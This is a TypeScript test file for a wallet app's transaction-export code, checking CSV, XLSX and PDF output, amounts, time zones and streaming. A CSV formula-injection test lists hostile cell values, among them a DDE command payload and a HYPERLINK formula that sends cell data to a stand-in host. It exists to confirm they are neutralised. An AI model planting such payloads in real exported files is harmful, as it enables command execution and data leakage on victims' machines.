import { rewardName } from '@marigold/chain/port';
import type { ExportFormat } from '@marigold/contract/calls/export';
import { languageIds } from '@marigold/texts/languages';
import { say } from '@marigold/texts/say';
import { parseString } from 'fast-csv';
import { strFromU8, unzipSync } from 'fflate';
import { extractText, getDocumentProxy } from 'unpdf';
import { describe, expect, it } from 'vitest';

import { harmless, writeCsv } from './csv.ts';
import { writePdf } from './pdf.ts';
import { render } from './render.ts';
import type { SheetBill, BillSheet } from './sheet.ts';
import { cellsOf, columns, headerOf } from './sheet.ts';
import { writeXlsx } from './xlsx.ts';

const sheet: BillSheet = {
  language: 'en',
  timeZone: 'Asia/Tokyo',
  username: 'annakov',
  from: Date.UTC(2026, 0, 1),
  to: Date.UTC(2026, 10, 21),
  madeAt: Date.UTC(2026, 10, 21, 12),
};
const bill: SheetBill = {
  type: 'TRANSFER',
  status: 'success',
  direction: 'out',
  asset: 'USDT',
  scale: 8,
  decimals: 2,
  units: '1234000001',
  feeUnits: '1',
  counterparty: 'V*********yee',
  symbol: null,
  note: null,
  orderNumber: 'MG-261121201059123456',
  payType: 'internal',
  chain: null,
  txId: null,
  sendingAddress: null,
  receivingAddress: null,
  createdAt: Date.UTC(2026, 10, 20, 15, 30, 5),
};

it('tells a trade by its market, and what it brought without taking its fee off again', () => {
  const trade = { ...bill, type: 'CURRENCY_TRADE', direction: 'in', counterparty: null } as const;
  const cells = cellsOf({ ...trade, symbol: 'BTC_USDT' }, sheet);
  expect([cells.counterparty, cells.amount, cells.fee, cells.arrivedAmount]).toEqual([
    'BTC/USDT',
    '12.34000001',
    '0.00000001',
    '12.34000001',
  ]);
  expect(cellsOf(bill, sheet).arrivedAmount).toBe('12.34');
});

it('says in words what it was that no transaction made', () => {
  expect(cellsOf({ ...bill, txId: rewardName('0x12') }, sheet).txId).toBe('Block reward');
  expect(cellsOf({ ...bill, txId: '0x12' }, sheet).txId).toBe('0x12');
});

async function* each(rows: readonly SheetBill[]): AsyncGenerator<SheetBill> {
  yield* rows;
}

const writers = { csv: writeCsv, xlsx: writeXlsx, pdf: writePdf };

async function write(
  format: ExportFormat,
  rows: readonly SheetBill[],
  change: Partial<BillSheet> = {},
): Promise<Buffer> {
  return await whole(writers[format]({ ...sheet, ...change }, each(rows)));
}

async function whole(bytes: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const chunks: Uint8Array[] = [];
  for await (const chunk of bytes) chunks.push(chunk);
  return Buffer.concat(chunks);
}

async function csvRows(bytes: Buffer): Promise<string[][]> {
  return await new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString<string[], string[]>(String(bytes))
      .on('error', reject)
      .on('data', (row: string[]) => rows.push(row))
      .on('end', () => resolve(rows));
  });
}

function xlsxRows(bytes: Buffer): string[][] {
  const parts = unzipSync(bytes);
  const xml = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  return [...xml.matchAll(/<row .*?<\/row>/gs)].map(([row]) => {
    const cells = new Map(
      [...row.matchAll(/<c r="([A-Z])\d+" s="\d" t="inlineStr"><is><t [^>]*>(.*?)<\/t><\/is><\/c>/gs)].map(
        ([, column = '', text = '']) => [column, text],
      ),
    );
    expect(cells.size).toBe(row.split('<c ').length - 1);
    return columns.map((_, index) => cells.get(String.fromCharCode(65 + index)) ?? '');
  });
}

async function pdfPages(bytes: Buffer): Promise<string[]> {
  const { text } = await extractText(await getDocumentProxy(new Uint8Array(bytes)), { mergePages: false });
  // Where a line is broken and where a font changes, the reader of the text sees a blank.
  return text.map((page) => page.replaceAll(/\s/g, ''));
}

const packed = (text: string) => text.replaceAll(/\s/g, '');

describe('a cell', () => {
  it('holds the exact amount without a sign, and the time of the named zone', () => {
    const cells = cellsOf({ ...bill, units: `1${'0'.repeat(37)}`, scale: 18, decimals: 6 }, sheet);
    expect(cells).toMatchObject({
      time: '2026-11-21 00:30:05',
      direction: 'Out',
      amount: '10000000000000000000.000000',
      arrivedAmount: '9999999999999999999.999999999999999999',
      fee: '0.000000000000000001',
      asset: 'USDT',
    });
    expect(headerOf(sheet).time).toBe('Time (Asia/Tokyo)');
  });
});

describe('a CSV file', () => {
  it('quotes every cell, begins with a byte order mark and keeps every character', async () => {
    const note = 'say "hi", 午饭 🌼; Привет';
    const bytes = await write('csv', [{ ...bill, note }, bill]);
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = String(bytes.subarray(3)).split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines.slice(0, 3).every((line) => /^"(?:[^"]|"")*"(,"(?:[^"]|"")*")*$/.test(line))).toBe(true);
    const [header, first] = await csvRows(bytes.subarray(3));
    expect(header).toEqual(columns.map((column) => headerOf(sheet)[column]));
    expect(first?.at(-1)).toBe(note);
    expect(first?.[4]).toBe('12.34000001');
  });

  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u3000=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '=HYPERLINK("http://x.example?"&A1)',
  ])('writes %j as text', async (note) => {
    expect(harmless(note)).toBe(`'${note}`);
    const [, first] = await csvRows((await write('csv', [{ ...bill, note }])).subarray(3));
    expect(first?.at(-1)).toBe(`'${note}`);
  });

  it('leaves what is no formula as it was', () => {
    for (const text of ['', 'lunch', '1-2', 'a=b', "'quoted", '12.34', '2026-11-21', '#1']) {
      expect(harmless(text)).toBe(text);
    }
  });
});

describe('an XLSX file', () => {
  it('has text cells only, exact and escaped', async () => {
    const note = '=1+1 <b>&"\u0001\ud800 午饭';
    const rows = xlsxRows(await write('xlsx', [{ ...bill, note }, bill]));
    expect(rows).toHaveLength(3);
    expect(rows[0]?.slice(0, 2)).toEqual(['Time (Asia/Tokyo)', 'Type']);
    expect(rows[1]?.[4]).toBe('12.34000001');
    expect(rows[1]?.at(-1)).toBe('=1+1 &lt;b&gt;&amp;&quot;\ufffd\ufffd 午饭');
  });

  it('arrives while rows do', async () => {
    let given = 0;
    async function* many(): AsyncGenerator<SheetBill> {
      for (; given < 20_000; given += 1) yield bill;
    }
    let firstAt: number | undefined;
    for await (const chunk of writeXlsx(sheet, many())) if (chunk.length > 0) firstAt ??= given;
    expect(firstAt).toBeLessThan(2000);
  });
});

describe('a PDF file', () => {
  it.each(languageIds)('can be read and copied in %s', async (language) => {
    const note = '午饭和咖啡、昼ごはん代、臺灣龍鳳、Обед с коллегами, Ünïcödé';
    const pages = await pdfPages(
      await write('pdf', [{ ...bill, note, type: 'CARD_RECHARGE_UTGL' }, bill], { language }),
    );
    const page = pages.join('');
    const header = headerOf({ ...sheet, language });
    for (const text of [
      header.time,
      header.type,
      header.amount,
      header.counterparty,
      header.orderNumber,
      header.note,
      say(language, 'billfile.titleOf', { username: 'annakov' }),
      say(language, 'bill.type.CARD_RECHARGE_UTGL'),
      say(language, 'bill.status.success'),
      '−12.34000001 USDT',
      '2026-11-21 00:30:05',
      'MG-261121201059123456',
      note,
    ]) {
      expect(page).toContain(packed(text));
    }
  });

  it('draws a box for what no font has, and says so', async () => {
    const [page] = await pdfPages(await write('pdf', [{ ...bill, note: '🌼 مرحبا' }]));
    expect(page).toContain('□□□□□□');
    expect(page).toContain(packed(say('en', 'billfile.replaced')));
    const [plain] = await pdfPages(await write('pdf', [bill]));
    expect(plain).not.toContain('□');
  });

  it('repeats its head on every page and numbers the pages', async () => {
    const pages = await pdfPages(
      await write(
        'pdf',
        Array.from({ length: 80 }, (_, index) => ({ ...bill, note: `row ${index};` })),
      ),
    );
    expect(pages.length).toBeGreaterThan(2);
    for (const [index, page] of pages.entries()) {
      expect(page).toContain(packed('Time (Asia/Tokyo)'));
      expect(page).toContain(packed(say('en', 'billfile.foot', { username: 'annakov', page: index + 1 })));
    }
    const rows = pages.join('').match(/row\d+;/g);
    expect(rows).toEqual(Array.from({ length: 80 }, (_, index) => `row${index};`));
  });

  it('breaks a long note into lines and loses nothing of it', async () => {
    const note = `${'word '.repeat(20)}${'x'.repeat(40)}`;
    const [page] = await pdfPages(await write('pdf', [{ ...bill, note }]));
    expect(page).toContain(packed(note));
  });
});

describe('the thread that writes', () => {
  async function* pages(count: number, onPage: (number: number) => void = () => undefined) {
    for (let number = 0; number < count; number += 1) {
      onPage(number);
      yield [bill, bill];
    }
  }
  const never = new AbortController().signal;

  it('writes the same file', async () => {
    expect(await whole(render({ format: 'csv', sheet }, pages(3), never))).toEqual(
      await write(
        'csv',
        Array.from({ length: 6 }, () => bill),
      ),
    );
  });

  it('takes the next page only when the bytes before were taken', async () => {
    let read = 0;
    const wide = { ...bill, note: 'x'.repeat(100_000) };
    async function* slow() {
      for (; read < 50; read += 1) yield [wide];
    }
    const iterator = render({ format: 'csv', sheet }, slow(), never);
    for (let taken = 0; taken < 5; taken += 1) {
      await iterator.next();
      expect(read).toBeLessThan(taken + 3);
    }
    await iterator.return(undefined);
  });

  it('ends when it is told to, and when reading fails', async () => {
    const stopping = new AbortController();
    const endless = pages(1e6, (number) => {
      if (number === 3) stopping.abort();
    });
    await expect(whole(render({ format: 'csv', sheet }, endless, stopping.signal))).rejects.toThrow(
      'aborted',
    );
    const broken = pages(5, (number) => {
      if (number === 2) throw new Error('the database went away');
    });
    await expect(whole(render({ format: 'xlsx', sheet }, broken, never))).rejects.toThrow(
      'the database went away',
    );
  });

  it('throws what goes wrong in it', async () => {
    async function* wrong() {
      yield [{ ...bill, units: 'not a number' }];
    }
    await expect(whole(render({ format: 'csv', sheet }, wrong(), never))).rejects.toThrow(/not a number/);
  });
});
